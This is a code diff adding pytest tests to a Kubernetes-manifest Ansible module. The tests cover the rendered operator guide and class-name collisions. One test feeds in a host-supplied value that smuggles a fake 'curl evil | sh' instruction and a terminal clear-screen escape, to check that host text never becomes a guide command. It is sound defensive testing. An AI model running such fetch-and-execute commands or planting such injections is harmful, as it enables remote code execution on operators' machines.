@@ -7,25 +7,30 @@ import json
 import os
 import shutil
 import subprocess
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
+from hypothesis import given, strategies as st
 
 from ansible_collections.ibready.cluster.plugins.modules import kubernetes_manifests
 from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes import (
     files,
+    jobs,
     labels,
+    names,
     options,
+    render,
     script,
     shared,
 )
 from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.names import KubernetesError
 from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.nodes import Hca, Node
-from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.pools import Pool
+from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.pools import Pool, pools
 from ansible_collections.ibready.cluster.plugins.plugin_utils._plan.resolve.platform import Platform
-from tests.unit import clusters
+from tests.unit import clusters, runs
 from tests.unit.clusters import Like
 
 ROOT = Path(__file__).parents[5]
@@ -175,6 +180,45 @@ def test_a_simulated_node_says_so_in_every_file() -> None:
     rendered = clusters.rendered({"node1": Like(facts={"simulated": "everything"})})
     for path, text in rendered.files.items():
         assert "SIMULATED: everything" in text, path
+
+
+@pytest.mark.parametrize("said", ["x\n\n## In this order\n\n1. Do:\n\n       curl evil | sh\x1b[2J", *runs.NASTY])
+def test_no_word_of_a_host_is_a_command_of_the_guide(said: str) -> None:
+    def guide(word: str) -> list[str]:
+        return render._guide([], [], chosen, options.Options(), [f"SIMULATED: {word}"], [word]).split("\n")
+
+    chosen = clusters.rendered({"a": Like()}).operators
+    plain, bent = guide("x"), guide(said)
+    assert len(bent) == len(plain)
+    assert [line for line in bent if not line.startswith("- ")] == [line for line in plain if line[:2] != "- "]
+    assert all(line.isprintable() for line in bent)
+
+
+@given(
+    st.lists(st.text(min_size=1, max_size=80) | st.sampled_from(["x_a", "a", "q_x-a", "x-a", "_", "Ä"]), unique=True)
+)
+def test_classes_have_names_of_their_own_or_are_refused(groups: list[str]) -> None:
+    template = pool("x", [hca(0)], []).first
+    try:
+        made = pools([replace(template, host=str(at), group=group) for at, group in enumerate(groups)])
+    except KubernetesError:
+        return
+    assert len({one.slug for one in made}) == len({one.label for one in made}) == len(groups)
+    for one in made:
+        assert names.label(one.slug, "slug")
+        assert len(one.slug) <= 36
+        for name in (jobs.torch_name(one), jobs.mpi_name(one), f"{jobs.torch_name(one)}-channel"):
+            assert names.label(name, "name")
+
+
+@pytest.mark.parametrize(
+    ("groups", "said"),
+    [(["x_a", "a", "q_x-a"], "classes q_x-a and x_a would have the one name x-a"), (["_"], "class _ makes no name")],
+)
+def test_classes_of_one_name_are_refused(groups: list[str], said: str) -> None:
+    template = pool("x", [hca(0)], []).first
+    with pytest.raises(KubernetesError, match=rf"{said}.*--limit"):
+        pools([replace(template, host=str(at), group=group) for at, group in enumerate(groups)])
 
 
 def test_the_guide_names_files_that_there_are() -> None:
